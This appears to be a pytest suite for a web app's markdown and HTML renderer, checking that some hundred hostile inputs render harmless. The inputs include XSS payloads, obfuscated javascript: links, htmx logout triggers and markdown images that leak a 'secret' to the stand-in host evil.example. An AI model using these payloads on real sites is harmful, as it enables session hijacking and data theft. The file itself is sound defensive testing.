"""Text that wants to be more than text. T1 to T4 of the threats, one row each."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sessions_app.rendering import BlockStream, render, render_person
from sessions_app.rendering.allowed import clean_html

from .page import Page

ROWS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='https://evil.example/a.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=/accounts/logout/><button>x</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html>",
    "<div hx-get='/accounts/logout/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/x' data-hx-trigger='load'>x</div>",
    "<div hx-on:load='alert(1)' _='on load log 1'>x</div>",
    "<div sse-connect='/x' ws-connect='/y' hx-ext='ws'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<i id='cursor' data-version='9'>x</i>",
    "<button type=button class=code__copy onclick=alert(1)>x</button>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](intent://evil.example#Intent;end)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example/a)",
    "[x](\\\\evil.example\\a)",
    "[x](http:/evil.example)",
    "[x](https:evil.example)",
    "[x](#cursor)",
    "[x](?next=https://evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: <vbscript:alert(1)> 't'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "javascript://www.evil.example/%0aalert(1)",
    "ftp://evil.example/ //evil.example/ https://user:pass@evil.example/",
    "[x](https://a.b/ 'quote\" onmouseover=\"alert(1)')",
    '[x](https://a.b/" onmouseover="alert(1))',
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/?q=secret)",
    "![x](http://evil.example/a.png 'title')",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![r][]\n\n[r]: https://evil.example/?q=secret",
    "![r]\n\n[r]: https://evil.example/?q=secret",
    "[![x](https://evil.example/1)](https://evil.example/2)",
    "![[x](https://evil.example/1)](https://evil.example/2)",
    "![![x](https://evil.example/1)](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,AA\"onload=alert(1))",
    "![x](data:image/png,<svg onload=alert(1)>)",
    "![x](/attachments/1/)",
    "![x](javascript:alert(1))",
    "![<script>alert(1)</script>](https://evil.example/a)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```python onclick=alert(1)\nx\n```",
    "~~~<img/src=x/onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | x |\n|--|:-:|\n| <img src=x onerror=alert(1)> | y |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\text{</mtext></math><script>alert(1)</script>}$$",
    "$$\n\\text{<a href=https://evil.example>x</a>}\n$$",
    "$\\style{position:fixed}{x}\\class{code__copy}{y}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\rule{9999em}{9999em}\\hspace{-9999em}$",
    "$<script>alert(1)</script>$",
    "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "- [x] <input onfocus=alert(1) autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ud800<script>alert(1)</script>\0",
    "</div></article><script>alert(1)</script>",
    "**<b onclick=alert(1)>**",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
]  # fmt: skip


@pytest.mark.parametrize("row", ROWS)
def test_hostile_text_becomes_harmless_html(row: str) -> None:
    assert Page(render(row, "m-1-")).faults == []
    assert Page(render_person(row)).faults == []


@pytest.mark.parametrize("row", ROWS)
def test_hostile_text_is_harmless_at_every_moment_of_its_growth(row: str) -> None:
    stream = BlockStream("m-1-")
    for character in row:
        stream.feed(character)
        stream.changed()
        assert Page(stream.html()).faults == []
    stream.finish()
    assert Page(stream.html()).faults == []


@pytest.mark.parametrize("row", [row for row in ROWS if row.startswith("<")])
def test_the_last_step_alone_makes_raw_html_harmless(row: str) -> None:
    assert Page(clean_html(row)).faults == []
    assert Page(clean_html(f"<math><mtext>{row}</mtext></math><img>")).faults == []


@settings(max_examples=60)
@given(
    st.lists(st.sampled_from([*ROWS, "\n\n", "\n", "> ", "- ", "`", "*", "[", "](", "$", "|"]), max_size=8)
)
def test_mixtures_of_hostile_text_are_harmless(rows: list[str]) -> None:
    assert Page(render("".join(rows))).faults == []


def test_a_picture_of_another_host_is_a_link_that_names_it() -> None:
    page = Page(render("![a *chart*](https://evil.example/a.png)"))
    assert page.all("img") == []
    assert [link["href"] for link in page.all("a")] == ["https://evil.example/a.png"]
    assert page.all("a")[0]["target"] == "_blank"
    assert "chart" in page.text
    assert "evil.example" in page.text


def test_a_picture_that_carries_its_own_bytes_is_shown() -> None:
    assert Page(render("![dot](data:image/png;base64,iVBORw0KGgo=)")).all("img")[0]["alt"] == "dot"


def test_links_out_open_in_a_new_tab_and_tell_nothing() -> None:
    (link,) = Page(render("[x](https://example.org/)")).all("a")
    assert (link["rel"], link["target"]) == ("noopener noreferrer nofollow", "_blank")


def test_links_inside_the_site_stay_in_their_tab() -> None:
    (link,) = Page(render("[x](/sessions/1/)")).all("a")
    assert link["href"] == "/sessions/1/"
    assert "target" not in link


def test_a_refused_link_keeps_its_text() -> None:
    assert "javascript:alert(1)" in Page(render("[x](javascript:alert(1))")).text
    assert Page(render("[the guide](./guide.md)")).text.strip() == "the guide"


def test_a_prefix_for_ids_cannot_carry_markup() -> None:
    with pytest.raises(ValueError, match="prefix"):
        render("x", 'm"><b ')
